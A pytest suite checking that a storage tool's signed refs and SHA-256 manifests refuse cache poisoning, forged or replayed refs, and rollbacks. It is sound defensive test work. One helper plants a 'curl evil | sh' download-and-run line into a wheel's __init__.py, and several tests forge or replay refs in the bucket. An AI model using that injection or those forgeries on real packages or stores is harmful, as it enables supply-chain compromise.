# SPDX-License-Identifier: MIT
"""Signed refs against cache poisoning (issue 12; docs/REMOTE.md 6.1).

A trusted host pushes a volume holding a real wheel (Debian's wheel
package) and a model blob (safetensors bytes in the Hugging Face cache
layout), signed with its key.  An untrusted job holds the bucket
credentials but not the key: it pulls, modifies the wheel and the model
blob in its own store, and pushes them unsigned and signed with its own
key, to the same ref and to a new one; it forges a ref out of the trusted
one, and replays the trusted signature onto another ref and into another
prefix.  A trusted host on another store, with --trust or the store
setting, through the CLI and through its daemon, full and lazy, gets the
original bytes or a one-line refusal with exit 3 and its store unchanged.

Real parts: the S3 server fixture (SigV4-checking front + s3rver), real
stores and FUSE mounts, awscli as the job's own S3 client for forgeries.
The jobs are plain volumes in their own stores: `hoard job` (issue 12
item 3) was not on main when this was written.
"""
import hashlib
import io
import json
import os
import struct
import subprocess
import zipfile
from pathlib import Path

import pytest

from conftest import HOARD, run
from s3server import s3  # noqa: F401  (a fixture)
from test_sync import AWS, aws, hj, hoard, stores, tree  # noqa: F401  (stores: a fixture)

EXIT_REMOTE = 3
WHEEL = sorted(Path("/usr/share/python-wheels").glob("wheel-*.whl"))
WHEEL_DIR = "pip/wheels/3b/7f"
MODEL = "hub/models--acme--tiny/blobs"


def safetensors(seed, n=600_000):
    """A safetensors file: u64 LE header length, JSON header, tensor data."""
    data = bytes((i * 7 + seed) & 0xFF for i in range(n))
    header = json.dumps({"w": {"dtype": "U8", "shape": [n], "data_offsets": [0, n]},
                         "__metadata__": {"format": "pt"}}).encode()
    return struct.pack("<Q", len(header)) + header + data


def poisoned_wheel(orig):
    """The same wheel with one module changed, as a malicious job would."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(orig)) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename.endswith("__init__.py"):
                data += b"\nimport os; os.system('curl evil | sh')\n"
            zout.writestr(item, data)
    return out.getvalue()


def sha(b):
    return hashlib.sha256(b).hexdigest()


def fill(mp, wheel, blob, mtime=None):
    (mp / WHEEL_DIR).mkdir(parents=True, exist_ok=True)
    (mp / MODEL).mkdir(parents=True, exist_ok=True)
    w = mp / WHEEL_DIR / WHEEL[0].name
    m = mp / MODEL / "5e1f"
    w.write_bytes(wheel)
    m.write_bytes(blob)
    snap = mp / "hub/models--acme--tiny/snapshots/abc"
    snap.mkdir(parents=True, exist_ok=True)
    if not (snap / "model.safetensors").is_symlink():
        os.symlink("../../blobs/5e1f", snap / "model.safetensors")
    if mtime:
        os.utime(w, (mtime, mtime))
        os.utime(m, (mtime, mtime))


def state(s3, st):
    """What a refusal must leave alone: the store's figures and files."""
    s = json.loads(run([HOARD, "stats", "--store", st.path, "--json"]).stdout)
    # RocksDB's own files change with every open (WAL, manifest)
    return {k: v for k, v in s.items() if "db_" not in k and "disk" not in k}


def refused(p, *words):
    assert p.returncode == EXIT_REMOTE, (p.returncode, p.stderr)
    line = p.stderr.strip()
    assert line.count("\n") == 0, line
    for w in words:
        assert w in line, (w, line)
    return line


@pytest.fixture
def scene(s3, stores, tmp_path, request):
    """Trusted store T pushes volume "cache" signed; keys tk (trusted) and
    jk (the job's own).  Returns a namespace."""
    if not WHEEL:
        pytest.skip("Debian's python3-wheel-whl is not installed")

    class N:
        pass
    n = N()
    n.url = f"s3://{s3.bucket}/{request.node.name}"
    n.tk = tmp_path / "trusted.key"
    n.jk = tmp_path / "job.key"
    p = hoard(s3, "key", "generate", n.tk)
    assert p.stdout.startswith("key ") and (n.tk.stat().st_mode & 0o777) == 0o600
    hoard(s3, "key", "generate", n.jk)
    n.wheel = WHEEL[0].read_bytes()
    n.blob = safetensors(1)
    n.T = stores("T")
    n.T.init()
    mp = n.T.mount("cache")["cache"]
    fill(mp, n.wheel, n.blob, mtime=1_700_000_000)
    n.want = tree(mp)
    # the trusted push goes through T's daemon (sign= on the socket)
    r = hj(s3, "push", n.url, "--store", n.T.path, "--volume", "cache", "--sign", n.tk)
    assert r["ref_updated"] and r["signed_by"]
    n.key_id = r["signed_by"]
    n.T.umount()
    return n


def test_key_generate_and_usage(s3, tmp_path):
    k = tmp_path / "k"
    hoard(s3, "key", "generate", k)
    text = k.read_text()
    assert text.startswith("hoard-secret-key 1 ed25519 ") and len(text) == 27 + 64 + 1
    assert (tmp_path / "k.pub").read_text().startswith("hoard-public-key 1 ed25519 ")
    # never overwrites, either file
    before = k.read_bytes()
    p = hoard(s3, "key", "generate", k, check=False)
    assert p.returncode == 1 and "never overwritten" in p.stderr
    assert k.read_bytes() == before
    (tmp_path / "k").rename(tmp_path / "k2")
    p = hoard(s3, "key", "generate", k, check=False)   # k.pub is still there
    assert p.returncode == 1 and not k.exists()
    # a secret key is not a trust anchor; garbage is not a key
    p = hoard(s3, "pull", "s3://b/p", "--volume", "v", "--trust", tmp_path / "k2",
              check=False)
    assert p.returncode == 2 and "secret key" in p.stderr
    (tmp_path / "junk").write_text("hello\n")
    p = hoard(s3, "pull", "s3://b/p", "--volume", "v", "--trust", tmp_path / "junk",
              check=False)
    assert p.returncode == 2 and "not a hoard public key" in p.stderr
    p = hoard(s3, "push", "s3://b/p", "--volume", "v", "--sign", tmp_path / "k.pub",
              check=False)
    assert p.returncode == 2 and "not a hoard secret key" in p.stderr
    p = hoard(s3, "push", "s3://b/p", "--volume", "v", "--trust", tmp_path / "k.pub",
              check=False)
    assert p.returncode == 2


def test_poisoning(s3, stores, scene, tmp_path):
    n = scene
    url = n.url
    tpub = f"{n.tk}.pub"

    # ---- the trusted side: B, a host with the trusted key's .pub ----------
    B = stores("B")
    hoard(s3, "init", "--from", url, "--store", B.path)
    out = hoard(s3, "config", "--store", B.path, "trust", tpub).stdout
    assert out.split()[0] == n.key_id
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "cache")
    assert r["signed_by"] == n.key_id and r["added"] >= 2
    ls = hj(s3, "ls-remote", url, "--trust", tpub)["refs"]
    assert [(x["ref"], x["signature"], x["key"]) for x in ls] == \
        [("cache/main", "trusted", n.key_id)]

    # ---- the untrusted job: bucket credentials, its own store, no key -----
    J = stores("J")
    hoard(s3, "init", "--from", url, "--store", J.path)
    hj(s3, "pull", url, "--store", J.path, "--volume", "cache")
    mp = J.mount("cache")["cache"]
    bad_wheel = poisoned_wheel(n.wheel)
    bad_blob = n.blob[:-1000] + b"\x66" * 1000
    assert sha(bad_wheel) != sha(n.wheel) and sha(bad_blob) != sha(n.blob)
    fill(mp, bad_wheel, bad_blob, mtime=1_800_000_000)   # newer: would win a merge
    J.umount()

    def b_untouched(before):
        assert state(s3, B) == before
        mpb = B.mount("cache")["cache"]
        assert tree(mpb) == n.want
        assert (mpb / WHEEL_DIR / WHEEL[0].name).read_bytes() == n.wheel
        assert (mpb / MODEL / "5e1f").read_bytes() == n.blob
        B.umount()

    before = state(s3, B)
    b_untouched(before)

    # 1. unsigned push over the trusted ref
    hj(s3, "push", url, "--store", J.path, "--volume", "cache")
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "not signed", "cache/main")
    b_untouched(before)
    # also with --trust alone (no store setting) on a fresh store: no volume made
    D = stores("D")
    hoard(s3, "init", "--from", url, "--store", D.path)
    d_before = state(s3, D)
    p = hoard(s3, "pull", url, "--store", D.path, "--volume", "cache", "--trust", tpub,
              check=False)
    refused(p, "not signed")
    p = hoard(s3, "pull", url, "--store", D.path, "--volume", "cache", "--trust", tpub,
              "--lazy", check=False)
    refused(p, "not signed")
    assert state(s3, D) == d_before
    # ... while a host that trusts nobody takes it (today's unsigned refs)
    ls = {x["ref"]: x for x in hj(s3, "ls-remote", url)["refs"]}
    assert ls["cache/main"]["signature"] == "unsigned" and ls["cache/main"]["key"] is None

    # 2. signed with the job's own key, same ref and a new ref
    for ref in ("main", "pr-1"):
        r = hj(s3, "push", url, "--store", J.path, "--volume", "cache", "--ref", ref,
               "--sign", n.jk)
        assert r["signed_by"] and r["signed_by"] != n.key_id
        p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", "--ref", ref,
                  check=False)
        refused(p, "not trusted", r["signed_by"])
        b_untouched(before)
    ls = {x["ref"]: x for x in hj(s3, "ls-remote", url, "--trust", tpub)["refs"]}
    assert ls["cache/main"]["signature"] == "untrusted"
    assert ls["cache/pr-1"]["signature"] == "untrusted"
    # and unsigned to a new ref
    hj(s3, "push", url, "--store", J.path, "--volume", "cache", "--ref", "pr-2")
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", "--ref", "pr-2",
              check=False)
    refused(p, "not signed")

    # 3. the trusted host pushes again (signed): B gets the original bytes,
    #    although the bucket now holds the job's packs too
    mpt = n.T.mount("cache")["cache"]
    assert tree(mpt) == n.want
    hj(s3, "push", url, "--store", n.T.path, "--volume", "cache", "--sign", n.tk)
    n.T.umount()
    good_ref = aws(s3, "s3", "cp", f"{url}/refs/cache/main", "-").stdout
    assert good_ref.startswith("hoard-ref 2\n")
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "cache")
    assert r["signed_by"] == n.key_id
    before = state(s3, B)
    b_untouched(before)
    # a fresh trusted store through its daemon, mounted, and lazily
    E = stores("E")
    hoard(s3, "init", "--from", url, "--store", E.path)
    mpe = E.mount("cache")["cache"]
    r = hj(s3, "pull", url, "--store", E.path, "--volume", "cache", "--trust", tpub,
           "--lazy")
    assert r["signed_by"] == n.key_id and "pull of volume cache done" in E.log()
    assert (mpe / WHEEL_DIR / WHEEL[0].name).read_bytes() == n.wheel
    assert (mpe / "hub/models--acme--tiny/snapshots/abc/model.safetensors").read_bytes() == n.blob
    E.umount()

    # 4. a ref forged with bucket credentials but without the key: the
    #    trusted ref's key and signature over the job's manifest
    job_ref = aws(s3, "s3", "cp", f"{url}/refs/cache/pr-2", "-").stdout
    fields = dict(l.split(" ", 1) for l in job_ref.splitlines()[1:])
    forged = good_ref.splitlines(keepends=True)
    forged = [f"manifest {fields['manifest']}\n" if l.startswith("manifest ") else
              f"files {fields['files']}\n" if l.startswith("files ") else
              f"bytes {fields['bytes']}\n" if l.startswith("bytes ") else l
              for l in forged]
    forgeries = {
        "forged-manifest": "".join(forged),
        # the job's own signature under the trusted key's name
        "forged-key": "".join(
            l if not l.startswith("key ") else
            [x for x in good_ref.splitlines(keepends=True) if x.startswith("key ")][0]
            for l in aws(s3, "s3", "cp", f"{url}/refs/cache/pr-1", "-").stdout
            .splitlines(keepends=True)),
        # 5. the trusted signature copied verbatim onto another ref
        "copied": good_ref,
    }
    for name, text in forgeries.items():
        (tmp_path / name).write_text(text)
        aws(s3, "s3", "cp", tmp_path / name, f"{url}/refs/cache/{name}")
        p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", "--ref", name,
                  check=False)
        refused(p, "does not verify")
    aws(s3, "s3", "cp", tmp_path / "forged-manifest", f"{url}/refs/cache/main")
    B.mount("cache")
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "does not verify", "through the hoardfs daemon")
    B.umount()
    b_untouched(before)
    ls = {x["ref"]: x for x in hj(s3, "ls-remote", url, "--trust", tpub)["refs"]}
    for name in ("main", *forgeries):
        assert ls[f"cache/{name}"]["signature"] == "invalid", name
    text = hoard(s3, "ls-remote", url).stdout
    assert "invalid" in text and n.key_id in text

    # 6. the trusted ref replayed into another repository (prefix) with
    #    the same config: refused too
    other = url + "-copy"
    for key in ("config", f"manifests/{fields['manifest']}"):
        aws(s3, "s3", "cp", f"{url}/{key}", f"{other}/{key}")
    aws(s3, "s3", "cp", tmp_path / "copied", f"{other}/refs/cache/main")
    p = hoard(s3, "pull", other, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "does not verify")
    assert state(s3, B) == before

    # the store setting: shown, replaced, removed
    out = hoard(s3, "config", "--store", B.path, "trust").stdout
    assert out.split()[0] == n.key_id
    out = hoard(s3, "config", "--store", B.path, "trust", "none").stdout
    assert out.strip() == "none"
    # with no trust left, a bad signature is still refused, unsigned taken
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "does not verify")
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "cache", "--ref", "pr-2")
    assert r["signed_by"] is None


def test_trust_setting_through_daemon(s3, stores, scene):
    n = scene
    tpub, jpub = f"{n.tk}.pub", f"{n.jk}.pub"
    B = stores("B")
    hoard(s3, "init", "--from", n.url, "--store", B.path)
    mp = B.mount("cache")["cache"]
    out = hoard(s3, "config", "--store", B.path, "trust", jpub, tpub).stdout
    assert len(out.splitlines()) == 2 and n.key_id in out
    p = hoard(s3, "config", "--store", B.path, "trust", n.tk, check=False)
    assert p.returncode == 2 and "secret key" in p.stderr
    r = hj(s3, "pull", n.url, "--store", B.path, "--volume", "cache")
    assert r["signed_by"] == n.key_id
    assert (mp / MODEL / "5e1f").read_bytes() == n.blob
    # only the job's key: the trusted ref is now "another key"
    hoard(s3, "config", "--store", B.path, "trust", jpub)
    p = hoard(s3, "pull", n.url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "not trusted", n.key_id)
    B.umount()
    # the setting is in the store: it holds offline too
    out = hoard(s3, "config", "--store", B.path, "trust").stdout
    assert len(out.splitlines()) == 1 and n.key_id not in out
    p = hoard(s3, "pull", n.url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "not trusted")
    # a re-push of the same tree by the trusted key changes nothing
    r = hj(s3, "push", n.url, "--store", n.T.path, "--volume", "cache", "--sign", n.tk)
    assert not r["ref_updated"] and r["signed_by"] == n.key_id
    # the same tree signed by another key is committed again (re-signed)
    r = hj(s3, "push", n.url, "--store", n.T.path, "--volume", "cache", "--sign", n.jk)
    assert r["ref_updated"] and r["signed_by"] != n.key_id
    job_id = r["signed_by"]
    r = hj(s3, "pull", n.url, "--store", B.path, "--volume", "cache")
    assert r["signed_by"] == job_id and r["identical"] >= 2


# ---- issue 12's trust gap: chunk bytes under the signature, rollback -------
# (docs/REMOTE.md 5.4 and 6.2)

def _seed_of(keyfile):
    line = Path(keyfile).read_text().split()
    assert line[:3] == ["hoard-secret-key", "1", "ed25519"]
    return bytes.fromhex(line[3])


def sign_ref(s3, url, volume, name, manifest, files, nbytes, keyfile, when):
    """A version-2 ref signed with keyfile, made here (REMOTE.md 6.1).  Only
    the holder of the trusted secret key can do this: the tests use it to
    put the pull in the one state the SHA-256 check exists for (the
    bucket's bytes give a chunk's id, the signed digest says otherwise),
    which an XXH3 collision would make and a test cannot."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
    k = Ed25519PrivateKey.from_private_bytes(_seed_of(keyfile))
    pub = k.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw).hex()
    cfg = subprocess_bytes(s3, f"{url}/config")
    bucket, prefix = url[len("s3://"):].split("/", 1)
    text = (f"hoard-ref-signature 1\nrepository {sha(cfg)}\n"
            f"location {bucket}/{prefix}/\nref {volume}/{name}\n"
            f"manifest {manifest}\nfiles {files}\nbytes {nbytes}\ntime {when}\n"
            f"key {pub}\n")
    sig = k.sign(text.encode()).hex()
    return (f"hoard-ref 2\nmanifest {manifest}\nfiles {files}\nbytes {nbytes}\n"
            f"time {when}\nkey {pub}\nsig {sig}\n")


def subprocess_bytes(s3, url):
    """An object's bytes (aws() decodes text)."""
    return subprocess.run([AWS, "--endpoint-url", s3.endpoint, "s3", "cp", url, "-"],
                          env=s3.env(), capture_output=True, check=True,
                          timeout=120).stdout


def put_bytes(s3, tmp_path, data, url):
    f = tmp_path / "upload.bin"
    f.write_bytes(data)
    aws(s3, "s3", "cp", f, url)


def ref_fields(text):
    return dict(l.split(" ", 1) for l in text.splitlines()[1:])


@pytest.fixture
def signed(s3, stores, tmp_path, request):
    """Store T pushes volume "vol" signed: small.bin (one incompressible
    chunk, stored raw, so its bytes can be found in the pack) and big.bin
    (several chunks)."""
    import random

    class N:
        pass
    n = N()
    n.url = f"s3://{s3.bucket}/{request.node.name}"
    n.tk = tmp_path / "t.key"
    hoard(s3, "key", "generate", n.tk)
    n.tpub = f"{n.tk}.pub"
    n.small = random.Random(1).randbytes(20_000)
    n.big = random.Random(2).randbytes(1_000_000)
    n.T = stores("T")
    n.T.init()
    mp = n.T.mount("vol")["vol"]
    (mp / "small.bin").write_bytes(n.small)
    (mp / "big.bin").write_bytes(n.big)
    os.utime(mp / "small.bin", (1_700_000_000, 1_700_000_000))
    r = hj(s3, "push", n.url, "--store", n.T.path, "--volume", "vol", "--sign", n.tk)
    assert r["ref_updated"] and r["signed_by"]
    n.T.umount()
    n.ref = aws(s3, "s3", "cp", f"{n.url}/refs/vol/main", "-").stdout
    n.fields = ref_fields(n.ref)
    n.manifest = subprocess_bytes(s3, f"{n.url}/manifests/{n.fields['manifest']}")
    return n


def trusted_store(s3, stores, n, name):
    st = stores(name)
    hoard(s3, "init", "--from", n.url, "--store", st.path)
    hoard(s3, "config", "--store", st.path, "trust", n.tpub)
    return st


def test_signed_manifest_covers_chunk_bytes(s3, stores, signed, tmp_path):
    """What each check proves:
    A. a signed push writes manifest version 2 with the SHA-256 of every
       chunk (small.bin's digest is in it), and a trusted pull takes it;
    B. the digest changed in the bucket without the key: the manifest's
       name no longer matches (corrupt), or the ref's manifest line moves
       and the signature does not verify -- the signature covers the
       digests;
    C. a ref signed by the trusted key over a manifest whose digest for
       small.bin disagrees with the bytes in the bucket, although those
       bytes give small.bin's chunk id (what an XXH3 collision planted by
       a bucket writer looks like to a reader): a trusted full pull is
       refused by the SHA-256 check (its own message), and after a trusted
       lazy pull, reading small.bin gives EIO while big.bin reads right,
       and hoard prefetch fails -- never wrong bytes;
    D. a pack rewritten in the bucket (small.bin's frame changed): without
       a collision the id check fires first (its message), full and lazy;
    E. a signed ref over a version-1 manifest (no digests): a trusted pull
       refuses it (exit 3), a pull that trusts no key still reads it."""
    import errno
    n = signed
    url = n.url
    # A
    assert n.manifest[8:12] == b"\0\0\0\2"
    assert hashlib.sha256(n.small).digest() in n.manifest
    B = trusted_store(s3, stores, n, "B")
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "vol")
    assert r["signed_by"]
    mpb = B.mount("vol")["vol"]
    assert (mpb / "small.bin").read_bytes() == n.small
    assert (mpb / "big.bin").read_bytes() == n.big
    B.umount()

    # B: one bit of small.bin's digest flipped in the bucket
    at = n.manifest.find(hashlib.sha256(n.small).digest())
    bad = bytearray(n.manifest)
    bad[at + 5] ^= 0x10
    bad = bytes(bad)
    bad_name = sha(bad)
    put_bytes(s3, tmp_path, bad, f"{url}/manifests/{bad_name}")
    C = trusted_store(s3, stores, n, "C")
    c_before = state(s3, C)
    forged = n.ref.replace(n.fields["manifest"], bad_name)
    (tmp_path / "forged").write_text(forged)
    aws(s3, "s3", "cp", tmp_path / "forged", f"{url}/refs/vol/main")
    p = hoard(s3, "pull", url, "--store", C.path, "--volume", "vol", check=False)
    refused(p, "does not verify")
    (tmp_path / "good").write_text(n.ref)
    aws(s3, "s3", "cp", tmp_path / "good", f"{url}/refs/vol/main")
    put_bytes(s3, tmp_path, bad, f"{url}/manifests/{n.fields['manifest']}")
    p = hoard(s3, "pull", url, "--store", C.path, "--volume", "vol", check=False)
    refused(p, "corrupt")
    put_bytes(s3, tmp_path, n.manifest, f"{url}/manifests/{n.fields['manifest']}")
    assert state(s3, C) == c_before

    # C: the trusted key signs the manifest with the wrong digest
    resigned = sign_ref(s3, url, "vol", "main", bad_name, n.fields["files"],
                        n.fields["bytes"], n.tk, int(n.fields["time"]) + 1)
    (tmp_path / "resigned").write_text(resigned)
    aws(s3, "s3", "cp", tmp_path / "resigned", f"{url}/refs/vol/main")
    ls = {x["ref"]: x for x in hj(s3, "ls-remote", url, "--trust", n.tpub)["refs"]}
    assert ls["vol/main"]["signature"] == "trusted"   # a valid signature
    p = hoard(s3, "pull", url, "--store", C.path, "--volume", "vol", check=False)
    line = refused(p, "has its id but not the SHA-256")
    assert state(s3, C) == c_before, line
    D = trusted_store(s3, stores, n, "D")
    mpd = D.mount("vol")["vol"]
    r = hj(s3, "pull", url, "--store", D.path, "--volume", "vol", "--lazy")
    assert r["signed_by"]
    assert (mpd / "big.bin").read_bytes() == n.big
    with pytest.raises(OSError) as ei:
        (mpd / "small.bin").read_bytes()
    assert ei.value.errno == errno.EIO
    assert "has its id but not the SHA-256" in D.log()
    p = hoard(s3, "prefetch", "--store", D.path, mpd / "small.bin", check=False)
    assert p.returncode == 1, p.stderr
    with pytest.raises(OSError) as ei:
        (mpd / "small.bin").read_bytes()
    assert ei.value.errno == errno.EIO
    D.umount()

    # D: the pack's bytes of small.bin changed (the good ref back)
    aws(s3, "s3", "cp", tmp_path / "resigned", f"{url}/refs/vol/bad")
    good_again = sign_ref(s3, url, "vol", "main", n.fields["manifest"], n.fields["files"],
                          n.fields["bytes"], n.tk, int(n.fields["time"]) + 2)
    (tmp_path / "good2").write_text(good_again)
    aws(s3, "s3", "cp", tmp_path / "good2", f"{url}/refs/vol/main")
    packs = [l.split()[-1] for l in
             aws(s3, "s3", "ls", f"{url}/packs/").stdout.splitlines()
             if l.endswith(".pack")]
    hit = []
    for name in packs:
        data = subprocess_bytes(s3, f"{url}/packs/{name}")
        at = data.find(n.small)
        if at >= 0:
            hit.append((name, data))
            data = bytearray(data)
            data[at + 1000] ^= 0x01
            put_bytes(s3, tmp_path, bytes(data), f"{url}/packs/{name}")
    assert len(hit) == 1
    E = trusted_store(s3, stores, n, "E")
    e_before = state(s3, E)
    p = hoard(s3, "pull", url, "--store", E.path, "--volume", "vol", check=False)
    refused(p, "does not match its id")
    assert state(s3, E) == e_before
    mpe = E.mount("vol")["vol"]
    hj(s3, "pull", url, "--store", E.path, "--volume", "vol", "--lazy")
    assert (mpe / "big.bin").read_bytes() == n.big
    with pytest.raises(OSError) as ei:
        (mpe / "small.bin").read_bytes()
    assert ei.value.errno == errno.EIO
    E.umount()
    put_bytes(s3, tmp_path, hit[0][1], f"{url}/packs/{hit[0][0]}")

    # E: a signed ref over a version-1 manifest (an unsigned push's)
    hj(s3, "push", url, "--store", n.T.path, "--volume", "vol", "--ref", "v1")
    v1 = ref_fields(aws(s3, "s3", "cp", f"{url}/refs/vol/v1", "-").stdout)
    m1 = subprocess_bytes(s3, f"{url}/manifests/{v1['manifest']}")
    assert m1[8:12] == b"\0\0\0\1"
    (tmp_path / "v1").write_text(sign_ref(s3, url, "vol", "v1", v1["manifest"], v1["files"],
                                          v1["bytes"], n.tk, int(v1["time"])))
    aws(s3, "s3", "cp", tmp_path / "v1", f"{url}/refs/vol/v1")
    F = trusted_store(s3, stores, n, "F")
    f_before = state(s3, F)
    p = hoard(s3, "pull", url, "--store", F.path, "--volume", "vol", "--ref", "v1",
              check=False)
    refused(p, "no SHA-256", "vol/v1")
    p = hoard(s3, "pull", url, "--store", F.path, "--volume", "vol", "--ref", "v1",
              "--lazy", check=False)
    refused(p, "no SHA-256")
    assert state(s3, F) == f_before
    # with no trusted key (the signature still verifies): readable
    hoard(s3, "config", "--store", F.path, "trust", "none")
    r = hj(s3, "pull", url, "--store", F.path, "--volume", "vol", "--ref", "v1")
    assert r["signed_by"] and r["added"] >= 1
    # the upgrade path: the signing host pushes the same tree with --sign;
    # the version-1 manifest is not "the same tree", so a version-2 one
    # and a new signed ref are written, which a trusted pull takes
    r = hj(s3, "push", url, "--store", n.T.path, "--volume", "vol", "--ref", "v1",
           "--sign", n.tk)
    assert r["ref_updated"] and r["manifest_new"]
    v2 = ref_fields(aws(s3, "s3", "cp", f"{url}/refs/vol/v1", "-").stdout)
    assert subprocess_bytes(s3, f"{url}/manifests/{v2['manifest']}")[8:12] == b"\0\0\0\2"
    hoard(s3, "config", "--store", F.path, "trust", n.tpub)
    r = hj(s3, "pull", url, "--store", F.path, "--volume", "vol", "--ref", "v1")
    assert r["signed_by"]


def test_rollback_refused(s3, stores, signed, tmp_path):
    """A replayed older signed ref: refused by a trusted store that took a
    newer one (CLI, daemon, lazy), exit 3, store unchanged; taken with
    --allow-rollback (through the daemon), which does not lower the mark;
    a store that never took one from there has nothing to compare."""
    n = signed
    url = n.url
    B = trusted_store(s3, stores, n, "B")
    hj(s3, "pull", url, "--store", B.path, "--volume", "vol")
    # the trusted host pushes a change at once: the same second as the
    # first push must still give a later time (REMOTE.md 6.2)
    mpt = n.T.mount("vol")["vol"]
    (mpt / "small.bin").write_bytes(b"version two\n")
    os.utime(mpt / "small.bin", (1_800_000_000, 1_800_000_000))
    hj(s3, "push", url, "--store", n.T.path, "--volume", "vol", "--sign", n.tk)
    hj(s3, "push", url, "--store", n.T.path, "--volume", "vol", "--sign", n.tk,
       "--ref", "other")
    n.T.umount()
    new = aws(s3, "s3", "cp", f"{url}/refs/vol/main", "-").stdout
    assert int(ref_fields(new)["time"]) > int(n.fields["time"])
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "vol")
    assert r["replaced"] == 1
    before = state(s3, B)

    # the bucket writer puts the old, validly signed ref back
    (tmp_path / "old").write_text(n.ref)
    aws(s3, "s3", "cp", tmp_path / "old", f"{url}/refs/vol/main")
    ls = {x["ref"]: x for x in hj(s3, "ls-remote", url, "--trust", n.tpub)["refs"]}
    assert ls["vol/main"]["signature"] == "trusted"
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "vol", check=False)
    refused(p, "rollback", "vol/main", "--allow-rollback")
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "vol", "--lazy",
              check=False)
    refused(p, "rollback")
    assert state(s3, B) == before
    mpb = B.mount("vol")["vol"]
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "vol", check=False)
    refused(p, "rollback", "through the hoardfs daemon")
    assert (mpb / "small.bin").read_bytes() == b"version two\n"
    # the override, through the daemon: taken (the local file is newer, so
    # the merge rule keeps it)
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "vol", "--allow-rollback")
    assert r["signed_by"] and r["kept_newer"] == 1
    assert "older than one this store accepted" in B.log()
    B.umount()
    # the mark stays at the newest: without the flag, refused again
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "vol", check=False)
    refused(p, "rollback")
    # the other ref and a store with no memory of this one are not affected
    hj(s3, "pull", url, "--store", B.path, "--volume", "vol", "--ref", "other")
    C = trusted_store(s3, stores, n, "C")
    hj(s3, "pull", url, "--store", C.path, "--volume", "vol")
    # the newest back: taken
    (tmp_path / "new").write_text(new)
    aws(s3, "s3", "cp", tmp_path / "new", f"{url}/refs/vol/main")
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "vol")
    assert r["signed_by"]


def test_signed_push_of_lazy_chunks(s3, stores, signed):
    """A signed push hashes every chunk: chunks of an untrusted lazy pull
    (not local, no digest) make it fail naming hoard prefetch, exit 1;
    after a trusted lazy pull (which keeps the digests) it signs without
    fetching, and its manifest carries the right digests."""
    n = signed
    url = n.url
    L = stores("L")
    hoard(s3, "init", "--from", url, "--store", L.path)
    hj(s3, "pull", url, "--store", L.path, "--volume", "vol", "--lazy")
    p = hoard(s3, "push", url, "--store", L.path, "--volume", "vol", "--ref", "l",
              "--sign", n.tk, check=False)
    assert p.returncode == 1 and "hoard prefetch" in p.stderr, p.stderr
    hoard(s3, "config", "--store", L.path, "trust", n.tpub)
    hj(s3, "pull", url, "--store", L.path, "--volume", "vol", "--lazy")
    r = hj(s3, "push", url, "--store", L.path, "--volume", "vol", "--ref", "l",
           "--sign", n.tk)
    assert r["ref_updated"] and r["signed_by"] and r["chunks_new"] == 0
    f = ref_fields(aws(s3, "s3", "cp", f"{url}/refs/vol/l", "-").stdout)
    m = subprocess_bytes(s3, f"{url}/manifests/{f['manifest']}")
    assert hashlib.sha256(n.small).digest() in m
